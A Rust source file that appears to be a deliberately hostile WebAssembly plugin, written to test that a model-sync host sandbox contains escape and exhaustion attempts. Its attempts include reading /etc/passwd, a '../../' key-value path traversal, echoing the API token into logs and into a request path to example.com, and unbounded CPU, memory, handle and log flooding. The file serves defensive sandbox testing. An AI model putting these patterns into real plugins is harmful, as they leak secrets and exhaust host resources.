//! A model-sync component that tries to escape or exhaust its sandbox. The
//! `api-token` setting names the attempt; `configure` makes it and reports
//! what happened (as warnings) when the host let it come back at all.

wit_bindgen::generate!({
    path: "../../wit",
    world: "dbt-cloud-plugin",
    generate_all,
});

use exports::modelsync::plugin::model_sync as wit;
use modelsync::plugin::host;
use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

struct Hostile;

/// Runs at instantiation (from `_initialize`): spins forever when the store
/// holds `hostile/spin-at-start`, so that instantiation itself must be
/// bounded by the call deadline.
/// (`wit-component` turns an exported `_initialize` into a start function.)
#[unsafe(no_mangle)]
pub extern "C" fn _initialize() {
    if let Ok(Some(_)) = host::kv_get("hostile/spin-at-start") {
        spin();
    }
}

fn spin() -> u64 {
    let mut x: u64 = 0;
    loop {
        x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
        if x == 42 {
            return x;
        }
    }
}

fn request(authority: &str, scheme: &Scheme) -> OutgoingRequest {
    request_to(authority, scheme, "/")
}

fn request_to(authority: &str, scheme: &Scheme, path: &str) -> OutgoingRequest {
    let req = OutgoingRequest::new(Fields::new());
    let _ = req.set_method(&Method::Get);
    let _ = req.set_scheme(Some(scheme));
    let _ = req.set_authority(Some(authority));
    let _ = req.set_path_with_query(Some(path));
    req
}

fn http_get(authority: &str, scheme: Scheme) -> String {
    match wasi::http::outgoing_handler::handle(request(authority, &scheme), None) {
        Err(e) => format!("handle refused: {e:?}"),
        Ok(future) => {
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(resp))) => format!("got HTTP {}", resp.status()),
                Some(Ok(Err(e))) => format!("error code: {e:?}"),
                other => format!("no response: {}", other.is_some()),
            }
        }
    }
}

fn connection(warnings: Vec<String>) -> wit::Connection {
    wit::Connection {
        api_base_url: String::new(),
        account_id: 0,
        account_name: String::new(),
        plan: None,
        project_id: 0,
        project_name: String::new(),
        docs_job: None,
        freshness_job: None,
        warnings,
    }
}

impl wit::Guest for Hostile {
    fn configure(settings: wit::Settings) -> Result<wit::Connection, wit::Error> {
        let target = settings.access_url.clone().unwrap_or_default();
        match settings.api_token.as_str() {
            "outside" => Ok(connection(vec![http_get("example.com", Scheme::Https), http_get(&target, Scheme::Http)])),
            "spin" => Ok(connection(vec![spin().to_string()])),
            "handles" => {
                // Host resources kept alive until the host refuses one.
                let mut hoard = Vec::new();
                loop {
                    hoard.push(Fields::new());
                    if hoard.len() == usize::MAX {
                        return Ok(connection(vec![]));
                    }
                }
            }
            "headers" => {
                // One header set grown until the host refuses it.
                let fields = Fields::new();
                let value = vec![b'v'; 4096];
                let mut added = 0u32;
                let refused = loop {
                    match fields.append(&format!("x-h{added}"), &value) {
                        Ok(()) => added += 1,
                        Err(e) => break format!("{e:?}"),
                    }
                    if added == 1_000_000 {
                        break "never refused".to_string();
                    }
                };
                Ok(connection(vec![format!("added={added}"), format!("refused={refused}")]))
            }
            "concurrent" => {
                // Requests started and held, never read, until the host refuses.
                let mut held = Vec::new();
                let mut refused = 0u32;
                for _ in 0..100 {
                    match wasi::http::outgoing_handler::handle(request(&target, &Scheme::Http), None) {
                        Ok(future) => held.push(future),
                        Err(_) => refused += 1,
                    }
                }
                let mut outcomes = Vec::new();
                for future in &held {
                    future.subscribe().block();
                    outcomes.push(match future.get() {
                        Some(Ok(Ok(_))) => "ok".to_string(),
                        Some(Ok(Err(e))) => format!("{e:?}"),
                        _ => "none".to_string(),
                    });
                }
                let ok = outcomes.iter().filter(|o| *o == "ok").count();
                Err(wit::Error::Network(format!("held={} ok={ok} refused={refused}", held.len())))
            }
            "progress-flood" => {
                for i in 0..30_000u64 {
                    host::progress("flood", i, None);
                }
                Ok(connection(vec!["flooded".into()]))
            }
            "deny-flood" => {
                let mut denied = 0u32;
                for _ in 0..1_000 {
                    if http_get("example.com", Scheme::Https).contains("HttpRequestDenied") {
                        denied += 1;
                    }
                }
                Ok(connection(vec![format!("denied={denied}")]))
            }
            "alloc" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 16 << 20]);
                    if hoard.len() == usize::MAX {
                        return Ok(connection(vec![]));
                    }
                }
            }
            "flood-log" => {
                for i in 0..30_000u32 {
                    host::log(host::Level::Info, &format!("line {i} {}", "x".repeat(8_000)));
                }
                Ok(connection(vec!["flooded".into()]))
            }
            "echo-secret" => {
                // The token, echoed everywhere the host passes text on;
                // its tail sits where a 4 KiB log line is cut.
                let token = settings.api_token.as_str();
                host::log(host::Level::Info, &format!("{}{token}", "x".repeat(4090)));
                host::log(host::Level::Info, &format!("the token is {token}"));
                host::progress(&format!("step {token}"), 1, None);
                let _ = wasi::http::outgoing_handler::handle(
                    request_to("example.com", &Scheme::Https, &format!("/{token}")),
                    None,
                );
                Err(wit::Error::InvalidSetting(wit::SettingProblem {
                    field: format!("field {token}"),
                    message: format!("message {token}"),
                }))
            }
            "huge-string" => Err(wit::Error::Other("A".repeat(64 << 20))),
            "kv-huge-key" => {
                let r = host::kv_set(&"k".repeat(1 << 20), b"v");
                Ok(connection(vec![format!("{r:?}")]))
            }
            "kv-huge-value" => {
                let r = host::kv_set("big", &vec![7u8; 32 << 20]);
                Ok(connection(vec![format!("{r:?}")]))
            }
            "kv-escape" => {
                let r = host::kv_set("../../escaped", b"v");
                Ok(connection(vec![format!("{r:?}")]))
            }
            "ambient" => {
                let env = std::env::vars().count();
                let args = std::env::args().count();
                let fs = std::fs::read_dir("/").map(|d| d.count()).map_err(|e| e.to_string());
                let file = std::fs::read("/etc/passwd").map(|b| b.len()).map_err(|e| e.to_string());
                let socket = std::net::TcpStream::connect(target.trim_start_matches("http://"))
                    .map(|_| ())
                    .map_err(|e| e.to_string());
                let mut line = String::new();
                let stdin = std::io::stdin().read_line(&mut line).map_err(|e| e.to_string());
                Ok(connection(vec![
                    format!("env={env}"),
                    format!("args={args}"),
                    format!("fs={fs:?}"),
                    format!("file={file:?}"),
                    format!("socket={socket:?}"),
                    format!("stdin={stdin:?}"),
                ]))
            }
            other => Err(wit::Error::Other(format!("unknown attempt {other}"))),
        }
    }

    fn list_syncs(_: Option<u32>) -> Result<Vec<wit::SyncRecord>, wit::Error> {
        Ok(Vec::new())
    }

    fn get_sync(_: u64) -> Result<wit::SyncDetail, wit::Error> {
        Err(wit::Error::NotFound("none".into()))
    }

    fn get_catalog(_: u64, _: u32, _: u32, _: Option<wit::ResourceType>) -> Result<wit::CatalogPage, wit::Error> {
        Err(wit::Error::NotFound("none".into()))
    }

    fn get_changes(_: Option<u64>, _: u64, _: u32, _: u32) -> Result<wit::ChangePage, wit::Error> {
        Err(wit::Error::NotFound("none".into()))
    }

    fn trigger_sync(_: wit::SyncOptions) -> Result<wit::SyncRecord, wit::Error> {
        Err(wit::Error::NotConfigured("hostile".into()))
    }

    fn prune(_: u32) -> Result<wit::PruneReport, wit::Error> {
        Err(wit::Error::NotConfigured("hostile".into()))
    }
}

export!(Hostile);
